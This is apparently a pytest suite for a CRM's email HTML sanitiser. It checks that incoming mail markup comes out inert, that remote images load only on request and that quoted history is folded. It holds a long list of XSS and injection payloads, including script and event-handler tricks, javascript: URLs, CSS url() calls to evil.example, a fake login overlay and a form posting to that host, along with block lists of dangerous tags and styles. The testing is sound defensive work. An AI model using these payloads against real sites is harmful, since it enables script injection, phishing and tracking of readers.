"""HTML of others comes out inert: nothing runs, nothing is fetched, nothing is asked, nothing moves."""

import re
from html.parser import HTMLParser

import pytest

from crm.mail.reading import has_remote_pictures, inline_pictures, limits, read, with_pictures
from crm.mail.reading import html as cleaning
from tests.mail.reading.mails import html, mail

EVIL = "javascript:alert(1)"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    f"<img src='{EVIL}'>",
    "<img src=x style='background:url(//evil.example)'>",
    "<img srcset='//evil.example/x 2x'>",
    "<img data-src='javascript:alert(1)' src=x>",
    "<image href=//evil.example/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    "<form action=//evil.example><input name=p><button>Anmelden</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1)>x</textarea>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background-image:url(//evil.example/x)'>x</div>",
    "<div style='background:u\\72l(//evil.example/x)'>x</div>",
    "<div style='color:red;background:/**/url(//evil.example)'>x</div>",
    "<div style=\"list-style:url('//evil.example')\">x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.example)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Bitte anmelden</div>",
    "<div style='float:left;transform:scale(9)'>x</div>",
    "<div style='content:\"x\";cursor:url(//evil.example)'>x</div>",
    "<div style='color:image-set(\"//evil.example\" 1x)'>x</div>",
    "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
    "<body background=//evil.example onload=alert(1)>x",
    f"<a href='{EVIL}'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/mail/1/delete/'>x</a>",
    "<a href='blob:x' ping=//evil.example onclick=alert(1) target=_self download>x</a>",
    "<area href=javascript:alert(1)><map name=x></map>",
    "<video src=//evil.example autoplay onplay=alert(1)></video>",
    "<audio src=//evil.example onerror=alert(1)></audio>",
    "<video poster=//evil.example><source src=//evil.example></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details class=history open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(1)</html:script></x>",
    "<p id=top class=modal name=x hx-get=/x data-x=y>x</p>",
    "<div contenteditable tabindex=1 accesskey=x autofocus>x</div>",
    "<b \x00onclick=alert(1)>x</b>",
    "<b onclick\x0b=alert(1)>x</b>",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<" * 5000,
    "<div>" * 3000 + "<img src=x onerror=alert(1)>",
    "<p " + " ".join(f"a{i}=1" for i in range(1500)) + " onclick=alert(1)>x</p>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src='data:text/html,x'>",
    "<img src=\"https://x.example/a.png?x=' onerror='alert(1)\">",
    "<img src='https://x.example/\"onerror=alert(1)//.png'>",
    "<img src=https://x.example/a.png alt='\"><script>alert(1)</script>'>",
]
# Said here once more: what is harmful stays so, whatever the product's own lists come to say.
FORBIDDEN = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta",
    "svg", "math", "form", "input", "button", "select", "option", "textarea", "isindex", "video", "audio",
    "source", "track", "image", "template", "portal", "area", "map", "marquee", "noscript", "xmp", "plaintext",
    "title", "body", "html",
}  # fmt: skip
MOVING = {
    "position", "float", "z-index", "transform", "top", "left", "content", "cursor", "background", "background-image",
    "list-style", "behavior", "animation", "filter", "mask", "opacity",
}  # fmt: skip
PLAIN = {
    "align", "bgcolor", "dir", "height", "lang", "title", "valign", "width", "alt", "border", "color", "face", "size",
    "start", "type", "cellpadding", "cellspacing", "rules", "colspan", "nowrap", "rowspan", "rel", "target",
}  # fmt: skip
STYLE = re.compile(r"[\w-]+:(?:[^;()\\@]|\b(?:rgb|hsl)a?\([\d.,% ]+\))*")


class Inspector(HTMLParser):
    """Complains about everything that is not known to be harmless."""

    def __init__(self, sources=()):
        super().__init__()
        self.sources, self.complaints, self.elements = sources, [], 0

    def handle_starttag(self, tag, attrs):
        self.elements += 1
        if tag in FORBIDDEN or tag not in cleaning.TAGS:
            self.complaints.append(tag)
        for name, value in attrs:
            if not self.is_harmless(tag, name, value or ""):
                self.complaints.append((tag, name, value))

    def is_harmless(self, tag, name, value):
        if name == "href":
            return bool(re.match(r"(https?|mailto|tel):", value))
        if name in ("src", "data-src"):
            return tag == "img" and value.startswith(self.sources if name == "src" else ("https://", "http://", "cid:"))
        if name == "style":
            parts = [part for part in value.split(";") if part]
            names = {part.split(":")[0] for part in parts}
            return all(map(STYLE.fullmatch, parts)) and names <= cleaning.STYLES - MOVING
        return name in PLAIN or (tag, name, value) == ("details", "class", "history")

    def handle_comment(self, data):
        self.complaints.append(("comment", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def complaints(text, sources=()):
    inspector = Inspector(sources or ("\0",))
    inspector.feed(text)
    inspector.close()
    return inspector.complaints


def test_the_inspector_itself_complains():
    """What it looks through must not be its own blindness."""
    bad = [p for p in PAYLOADS if complaints(p)]
    assert len(bad) > 70, "most payloads are seen as what they are"


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_is_inert(payload):
    for text in (payload, f"<p>vorher {payload} nachher</p>", f"<div><table><tr><td>{payload}"):
        safe = html(text).html
        assert complaints(safe) == []
        shown = inline_pictures(with_pictures(safe), {"a": "/a"})
        assert complaints(shown, ("https://", "http://", "/a")) == []
        assert "\0" not in safe


def test_there_are_enough_payloads():
    print(f"{len(PAYLOADS)} payloads")
    assert len(set(PAYLOADS)) >= 60


def test_what_is_harmless_stays():
    text = (
        '<table width="600" cellpadding="0"><tbody><tr><td align="left" style="color:#333;font-family:Arial">'
        "<h1>Angebot</h1><p><b>Fett</b> und <i>kursiv</i>, 5 &lt; 6<br>neu</p><ul><li>eins</li></ul>"
        "</td></tr></tbody></table>"
    )
    assert html(text).html == text


def test_links_are_told_nothing_and_open_elsewhere():
    kept = html('<a href="https://x.example/?a=1&amp;b=2">x</a>').html
    assert kept == '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    for address in ("mailto:a@x.example", "tel:+49301234", "http://x.example"):
        assert f'href="{address}"' in html(f"<a href='{address}'>x</a>").html


def test_pictures_are_shown_on_demand_only():
    safe = html(
        '<img src="https://x.example/a.png?b=1&c=2" width=9><img src="//x.example/b"><img src="cid:logo@x">'
    ).html
    assert ' src="' not in safe
    assert has_remote_pictures(safe)
    shown = with_pictures(safe)
    assert '<img src="https://x.example/a.png?b=1&amp;c=2" width="9">' in shown
    assert '<img src="https://x.example/b">' in shown
    assert '<img data-src="cid:logo@x">' in shown
    inline = inline_pictures(safe, {"logo@x": '/mail/1/"2/'})
    assert '<img src="/mail/1/&quot;2/">' in inline
    assert 'data-src="https://x.example/b"' in inline
    assert not has_remote_pictures(html('Text &lt;img data-src="https://x.example"&gt; <img src="cid:a">').html)


def test_pictures_within_the_html_are_shown_with_the_inline_ones():
    safe = html('<img src="data:image/png;base64,iVBORw0KGgo=">').html
    assert ' src="' not in safe
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in inline_pictures(safe, {})
    assert ' src="data:' not in with_pictures(safe)


@pytest.mark.parametrize(
    "quote",
    [
        '<blockquote type="cite">Alt</blockquote>',
        '<div class="gmail_quote gmail_quote_container">Alt</div>',
        '<div id="divRplyFwdMsg"><b>Von:</b> Eva</div><div>Alt</div>',
        '<div id="appendonsend"></div><hr><div>Alt</div>',
        '<div class="moz-cite-prefix">Am 1.1. schrieb Eva:</div><blockquote type="cite">Alt</blockquote>',
        '<div class="yahoo_quoted">Alt</div>',
    ],
)
def test_the_history_is_folded(quote):
    safe = html(f"<div>Neu</div>{quote}").html
    new, folded = safe.split('<details class="history"><summary>…</summary>')
    assert "Neu" in new
    assert "Alt" in folded.split("</details>")[0]


def test_html_that_has_no_tree_is_shown_as_text():
    found = html("<div>" * 3000 + "<b>Hallo</b> &amp; Welt<script>x</script>")
    assert "Hallo" in found.text
    assert "&amp; Welt" in found.html
    assert found.problems == ("The HTML could not be read; it is shown as text.",)


def test_html_that_is_too_long_is_cut(monkeypatch):
    found = html("<p>x" * (limits.HTML_TAGS + 1000))
    assert (found.html.count("<p>"), limits.LONG_HTML in found.problems) == (limits.HTML_TAGS, True)
    assert limits.LONG_HTML in html("&amp;" * (limits.HTML_ENTITIES + 1)).problems
    monkeypatch.setattr(limits, "HTML_BYTES", 100)
    assert len(html("x" * 200).text) == 100


def test_the_charset_that_the_document_names():
    raw = mail("<meta charset=windows-1250><p>Łódź".encode("cp1250"), Content_Type="text/html")
    assert read(raw).text == "Łódź"


def test_hidden_text_is_not_in_the_text():
    found = html('<div style="display:none">Vorschau</div><p>Hallo</p>')
    assert found.text == "Hallo"
